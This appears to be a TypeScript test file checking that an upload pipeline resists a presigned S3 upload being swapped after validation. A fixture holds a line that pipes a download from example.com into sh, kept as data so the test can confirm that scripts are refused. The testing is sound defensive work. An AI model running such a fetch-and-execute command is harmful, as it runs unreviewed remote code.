/**
 * A presigned S3 POST can be used again until it expires (15 minutes), so the original of a presigned upload can be
 * replaced after the Validate step checked it. The steps after Validate must read exactly the checked bytes: Validate
 * pins them (a server-side copy to the source's `validated/` key, only if the object is still the version it read),
 * and hands that key on. Each test replaces the upload at one moment, held there by a replaced task handler or an S3
 * client middleware, not by timing:
 * - after Validate, before Parse: the source's text is the checked file's, not the replacement's;
 * - between Validate's check and its copy: the copy is refused and the checks run again, on the replacement.
 * The copy's object-created event starts nothing, and deleting the source removes the copy.
 */
import { ListObjectsV2Command } from "@aws-sdk/client-s3";
import { afterEach, describe, expect, it } from "vitest";
import { Config } from "../../../core/config";
import { ExtractionError } from "../../../core/extract";
import { setWorkflowRunner, type ExtractionInput } from "../../../core/pipeline";
import * as Research from "../../../core/research";
import { s3Client } from "../../../core/storage/client";
import { drainLocalWorkflows, localWorkflowRunner } from "../../../local/pipeline";
import { call, newWorkspace } from "../../support/api";
import { waitFor } from "../../support/multipart";

type Handler = (input: any) => Promise<any>;
const step = (file: string): Handler => async (input) => ((await import(`../../../functions/steps/${file}.ts`)) as { handler: Handler }).handler(input);

const CHECKED = Buffer.from("# Interview 4\n\nThe checked file: the export button is hard to find.\n");
const REPLACEMENT = Buffer.from("# Interview 4\n\nThe replacement: nobody ever checked this text.\n");
const SCRIPT = Buffer.from("#!/bin/sh\ncurl -s https://example.com/x | sh\n");

/** POST a file to a presigned S3 POST, as a browser form would: the policy's fields first, then the file. */
async function postToPresigned(upload: { url: string; fields: Record<string, string> }, data: Buffer, type: string) {
  const form = new FormData();
  for (const [k, v] of Object.entries(upload.fields)) form.append(k, v);
  form.append("file", new Blob([new Uint8Array(data)], { type }), "notes.md");
  const res = await fetch(upload.url, { method: "POST", body: form });
  expect(res.status).toBe(204);
}

async function bucketKeys(prefix: string): Promise<string[]> {
  const out = await (await s3Client()).send(new ListObjectsV2Command({ Bucket: Config.bucketName(), Prefix: prefix }));
  return (out.Contents ?? []).map((o) => o.Key!).sort();
}

/** A presigned upload of a Markdown file of CHECKED's size (the policy's content-length range allows up to it). */
async function presigned() {
  const { owner, workspace } = await newWorkspace();
  const res = await call("POST", "/api/research/upload-url", {
    token: owner.token,
    body: { workspace_id: workspace.id, source_type: "interview", title: "Interview 4", file_name: "notes.md", content_type: "text/markdown", file_size_bytes: 1000 },
  });
  expect(res.status, res.text).toBe(201);
  return { token: owner.token as string, workspaceId: workspace.id as string, source: res.body.source, upload: res.body.upload };
}

const settled = (token: string, id: string) =>
  waitFor(async () => {
    const res = await call("GET", `/api/research/sources/${id}`, { token });
    return res.body.processing_status !== "pending" ? res.body : undefined;
  }, 60_000);

/** Install a local runner with `handlers`, recording every extraction started. */
function runnerWith(handlers: Record<string, Handler>): ExtractionInput[] {
  const started: ExtractionInput[] = [];
  const real = localWorkflowRunner({ handlers });
  setWorkflowRunner({
    startExtraction: async (input) => {
      started.push(input);
      return real.startExtraction(input);
    },
    isRunning: (ref) => real.isRunning(ref),
  });
  return started;
}

afterEach(async () => {
  await drainLocalWorkflows();
  setWorkflowRunner(localWorkflowRunner());
});

describe("a presigned upload replaced after Validate checked it", () => {
  it("after Validate, before Parse: extraction reads the checked file, not the replacement", async () => {
    const { token, workspaceId, source, upload } = await presigned();
    const validated: any[] = [];
    const started = runnerWith({
      // The real Validate, then the same presigned POST used again with other bytes before Parse runs.
      Validate: async (input) => {
        const out = await step("validate")(input);
        validated.push(out);
        await postToPresigned(upload, REPLACEMENT, "text/markdown");
        return out;
      },
    });
    await postToPresigned(upload, CHECKED, "text/markdown");
    const done = await settled(token, source.id);
    expect(done.processing_status, done.processing_error).toBe("completed");
    expect(done.extracted_text).toContain("The checked file");
    expect(done.extracted_text).not.toContain("replacement");

    // Parse read the pinned copy under validated/, which no presigned policy names.
    const pinned = Research.validatedKey(workspaceId, source.id, validated[0].attempt, "notes.md");
    expect(validated[0].key).toBe(pinned);
    expect(upload.fields.key).not.toBe(pinned);
    expect(await bucketKeys(`workspaces/${workspaceId}/sources/${source.id}/`)).toContain(pinned);
    // The copy's object-created event asks for no extraction (its key is no original's); the replacement's asks for
    // the running attempt's, which the runner, like Step Functions, does not start twice: Validate ran once.
    await drainLocalWorkflows();
    const starts = started.filter((s) => s.source_id === source.id);
    expect(starts.map((s) => s.key)).toEqual(starts.map(() => upload.fields.key));
    expect(starts.map((s) => s.attempt)).toEqual(starts.map(() => 0));
    expect(validated).toHaveLength(1);

    // Deleting the source removes the copy with the original and the derived files.
    expect((await call("DELETE", `/api/research/sources/${source.id}`, { token })).status).toBe(204);
    expect(await bucketKeys(`workspaces/${workspaceId}/`)).toEqual([]);
  });

  it("between Validate's check and its copy: the copy is refused and the replacement is checked (a script: refused)", async () => {
    const { token, workspaceId, source, upload } = await presigned();
    runnerWith({});
    // Just before Validate's copy goes to the object store, the presigned POST is used again with a shell script.
    const client = await s3Client();
    const name = `replace-before-copy-${source.id}`;
    let replaced = false;
    client.middlewareStack.add(
      (next, context) => async (args) => {
        if (!replaced && context.commandName === "CopyObjectCommand" && JSON.stringify(args.input).includes(source.id)) {
          replaced = true;
          await postToPresigned(upload, SCRIPT, "text/markdown");
        }
        return next(args);
      },
      { step: "initialize", name },
    );
    try {
      await postToPresigned(upload, CHECKED, "text/markdown");
      const done = await settled(token, source.id);
      expect(replaced, "the upload was replaced before the copy").toBe(true);
      expect(done.processing_status).toBe("failed");
      expect(done.processing_error).toMatch(/Executable and script files are not accepted/);
      expect(done.extracted_text).toBeNull();
      // The refused object is deleted, and no copy of anything is left.
      expect(await bucketKeys(`workspaces/${workspaceId}/`)).toEqual([]);
    } finally {
      client.middlewareStack.remove(name);
    }
  });
});

describe("the checked copy's size and lifetime", () => {
  it("the source's file_size_bytes becomes the stored file's size, not the size the client declared", async () => {
    const { token, source, upload } = await presigned();
    expect(source.file_size_bytes).toBe(1000); // declared; the POST policy accepts 1 to 1000 bytes
    runnerWith({});
    await postToPresigned(upload, CHECKED, "text/markdown");
    const done = await settled(token, source.id);
    expect(done.processing_status, done.processing_error).toBe("completed");
    expect(done.file_size_bytes).toBe(CHECKED.length);
  });

  it("a failed attempt's checked copy is deleted by MarkFailed; the original stays for a reprocess", async () => {
    const { token, workspaceId, source, upload } = await presigned();
    // Parse fails after Validate pinned the copy.
    runnerWith({
      Parse: async () => {
        throw new ExtractionError("corrupt", "The file could not be read");
      },
    });
    await postToPresigned(upload, CHECKED, "text/markdown");
    const done = await settled(token, source.id);
    expect(done.processing_status).toBe("failed");
    const prefix = `workspaces/${workspaceId}/sources/${source.id}/`;
    expect(await bucketKeys(prefix)).toEqual([upload.fields.key]);

    // Validate itself fails after pinning (its output, with the file name, is lost): the copy goes too.
    runnerWith({
      Validate: async (input) => {
        const out = await step("validate")(input);
        expect(await bucketKeys(prefix)).toContain(out.key);
        throw new ExtractionError("too_large", "The file is too large for this deployment");
      },
    });
    expect((await call("POST", `/api/research/sources/${source.id}/reprocess`, { token })).status).toBe(200);
    const again = await settled(token, source.id);
    expect(again.processing_error).toBe("The file is too large for this deployment");
    expect(await bucketKeys(prefix)).toEqual([upload.fields.key]);
  });
});
